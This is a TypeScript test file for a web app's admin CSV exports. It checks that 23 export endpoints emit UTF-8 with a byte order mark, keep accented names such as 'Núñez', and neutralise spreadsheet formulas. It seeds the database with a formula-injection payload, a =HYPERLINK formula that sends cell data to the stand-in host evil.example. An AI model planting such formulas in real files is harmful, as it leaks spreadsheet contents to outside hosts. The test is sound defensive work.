// Every admin list's CSV opens cleanly in a spreadsheet: each export is downloaded with a member
// named "José Núñez" and a hostile =HYPERLINK(…) value in its data, and must come back as UTF-8
// with a byte order mark (so Excel keeps the accents), with the name intact and the formula
// neutralised (a leading apostrophe inside a quoted cell, never a live formula).
import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { newId } from "../../src/db/ids.ts";
import {
  adminActions,
  announcements,
  certificates,
  conversationMembers,
  conversations,
  courseEnrollments,
  emailOutbox,
  eventRegistrations,
  memberFeedback,
  messageReports,
  membershipTiers,
  messages,
  payments,
  projectApplications,
  roles,
  sponsorshipPackages,
  users,
} from "../../src/db/schema/index.ts";
import { createAccount, sessionCookie } from "../helpers/auth.ts";
import { makeCourse, makeCredential, makeEvent, makeProject, useTestDb } from "../helpers/db.ts";
import { get, postForm } from "../helpers/http.ts";
import { postMultipart } from "./admin-events-helpers.ts";

const db = useTestDb();
const EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
/** How EVIL must start a cell: quoted, apostrophe first, quotes doubled. */
const NEUTRALISED = `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")`;

let cookie: string;
let paths: Array<[string, string]>;

beforeAll(async () => {
  const tag = newId().slice(-8);
  const admin = await createAccount(db, { memberType: "admin", roles: ["admin"], firstName: "Admin" });
  cookie = await sessionCookie(db, admin.id);
  const member = await createAccount(db, { firstName: "José" });
  const company = `${EVIL} ${tag}`;
  await db.update(users).set({ lastName: "Núñez", company }).where(eq(users.id, member.id));

  const event = await makeEvent(db, admin.id, { title: `Núñez mixer ${tag}`, location: EVIL, status: "PUBLISHED" });
  await db.insert(eventRegistrations).values({ eventId: event.id, userId: member.id, notes: EVIL });
  const project = await makeProject(db, admin.id, { title: `Núñez roofing ${tag}`, organization: EVIL, status: "BIDDING_OPEN" });
  await db.insert(projectApplications).values({ projectId: project.id, userId: member.id, coverLetter: "Matrix", notes: EVIL });
  await makeCredential(db, member.id, { issuer: EVIL, number: tag });
  await db.insert(payments).values({ userId: member.id, type: "DONATION", status: "COMPLETED", amount: "25.00", description: EVIL });
  await db.insert(announcements).values({ title: EVIL, content: "CSV test", senderId: member.id, sentAt: new Date() });
  await db.insert(adminActions).values({ action: "USER_UPDATED", userId: admin.id, targetUserId: member.id, details: EVIL });
  await db.insert(emailOutbox).values([
    { toAddress: member.email, subject: "Hola Núñez", textBody: "CSV test", kind: "CSV_TEST", userId: member.id },
    { toAddress: member.email, subject: EVIL, textBody: "CSV test", kind: "CSV_TEST", userId: member.id },
  ]);
  await db.insert(roles).values({ name: `Núñez crew ${tag}`, description: EVIL });
  const [channel] = await db.insert(conversations).values({ kind: "CHANNEL", title: EVIL, eventId: event.id, createdById: admin.id }).returning();
  await db.insert(conversationMembers).values({ conversationId: channel!.id, userId: member.id, role: "OWNER" });
  const [message] = await db.insert(messages).values({ conversationId: channel!.id, seq: 1, senderId: member.id, content: EVIL, status: "SENT" }).returning();
  await db.insert(messageReports).values({ messageId: message!.id, reporterId: admin.id, reason: EVIL });
  await db.insert(memberFeedback).values({ userId: member.id, category: "BUG_REPORT", subject: EVIL, message: "CSV test", pageUrl: "/events" });
  // At the door within the hour: the day's door events and that event's door list.
  const door = await makeEvent(db, admin.id, {
    title: `Núñez door ${tag}`,
    location: EVIL,
    status: "REGISTRATION_OPEN",
    startDate: new Date(Date.now() + 3_600_000),
    endDate: new Date(Date.now() + 7_200_000),
  });
  await db.insert(eventRegistrations).values({ eventId: door.id, userId: member.id, status: "REGISTERED" });
  // Inactive, so no member sees them offered.
  await db.insert(membershipTiers).values({ name: `Núñez tier ${tag}`, description: EVIL, price: "10.00", duration: 12, isActive: false });
  await db.insert(sponsorshipPackages).values({ name: `Núñez package ${tag}`, description: EVIL, price: "10.00", isActive: false });
  const course = await makeCourse(db, { title: `Núñez course ${tag}`, category: EVIL });
  const [enrolment] = await db
    .insert(courseEnrollments)
    .values({ courseId: course.id, userId: member.id, status: "COMPLETED", progress: 100, completedAt: new Date() })
    .returning();
  await db.insert(certificates).values({ enrollmentId: enrolment!.id, userId: member.id, courseId: course.id, recipientName: "José Núñez", courseTitle: EVIL, hours: "2.00", credential: "csv-test" });
  // A member import: a good row, and one whose first name is the formula (refused: the preview's rows with errors, and the report's failed row).
  const upload = new FormData();
  upload.set(
    "file",
    new File([`email,first_name,last_name\nimport-${tag}@example.org,José,Núñez\nbad-${tag}@example.org,"${EVIL.replace(/"/g, '""')}",Núñez\n`], "members.csv", { type: "text/csv" }),
  );
  const previewHtml = await (await postMultipart("/admin/users/import", upload, { id: admin.id, cookie })).text();
  const errorsCsv = /href="(\/admin\/users\/import\/preview\/c[a-z2-7]{24}\/errors\.csv)"/.exec(previewHtml)?.[1];
  const token = /name="token" value="(c[a-z2-7]{24})"/.exec(previewHtml)?.[1];
  const committed = await postForm("/admin/users/import/commit", { token: token ?? "" }, { headers: { cookie } });
  const reportPath = `${committed.headers.get("location")}/report.csv`;

  const q = encodeURIComponent(tag);
  paths = [
    ["members", `/admin/users.csv?q=${encodeURIComponent(member.email)}`],
    ["audit trail", `/admin/audit.csv?target=${member.id}`],
    ["email outbox", "/admin/outbox.csv"],
    ["roles", "/admin/roles.csv"],
    ["events", "/admin/events/export.csv?when=all"],
    ["attendees", `/admin/events/${event.id}/attendees.csv`],
    ["bid opportunities", `/admin/projects/export.csv?q=${q}`],
    ["bids of an opportunity", `/admin/projects/${project.id}/applications.csv`],
    ["credentials", `/admin/credentials/export.csv?tab=all&q=${q}`],
    ["payments", `/admin/payments/export.csv?member=${encodeURIComponent(member.email)}`],
    ["announcements", "/admin/announcements/export.csv"],
    ["chapter channels", "/admin/messages/channels.csv"],
    ["reported messages", "/admin/messages/reports.csv?status=OPEN"],
    ["member feedback", `/admin/feedback/export.csv?q=${q}`],
    ["events at the door", "/admin/events/checkin.csv"],
    ["door list", `/admin/events/${door.id}/checkin.csv`],
    ["membership tiers", "/admin/payments/tiers.csv"],
    ["sponsorship packages", "/admin/payments/packages.csv"],
    ["courses", `/admin/courses/export.csv?q=${q}`],
    ["enrolments", `/admin/courses/${course.id}/enrollments.csv`],
    ["certificates", `/admin/certificates/export.csv?member=${encodeURIComponent(member.email)}`],
    ["member import report", reportPath],
    ["member import preview errors", errorsCsv ?? "/admin/users/import/preview/missing/errors.csv"],
  ];
});

describe("admin CSV exports", () => {
  it("export every admin list as UTF-8 with a BOM, Núñez intact and =HYPERLINK neutralised", async () => {
    const failures: string[] = [];
    for (const [name, path] of paths) {
      const res = await get(path, { headers: { cookie } });
      if (res.status !== 200) {
        failures.push(`${name}: status ${res.status}`);
        await res.body?.cancel();
        continue;
      }
      if (res.headers.get("content-type") !== "text/csv; charset=utf-8") failures.push(`${name}: content-type ${res.headers.get("content-type")}`);
      if (!/^attachment; filename="[\w.-]+\.csv"$/.test(res.headers.get("content-disposition") ?? "")) failures.push(`${name}: no attachment filename`);
      const bytes = new Uint8Array(await res.arrayBuffer());
      if (!(bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf)) failures.push(`${name}: no UTF-8 byte order mark`);
      const text = new TextDecoder("utf-8", { fatal: true, ignoreBOM: false }).decode(bytes);
      if (!text.includes("Núñez")) failures.push(`${name}: "Núñez" missing or mangled`);
      if (!text.includes(NEUTRALISED)) failures.push(`${name}: the HYPERLINK cell is not neutralised`);
      // No cell may start with the formula: after a separator or a line start, only the neutralised form.
      if (/(^|[,\n])"?=HYPERLINK/.test(text)) failures.push(`${name}: a live =HYPERLINK cell`);
      if (!text.endsWith("\r\n") || /[^\r]\n/.test(text.replace(/"[^"]*"/g, ""))) failures.push(`${name}: rows not ended with CRLF`);
    }
    expect(failures.join("\n")).toBe("");
    expect(paths.length).toBe(23);
  });
});
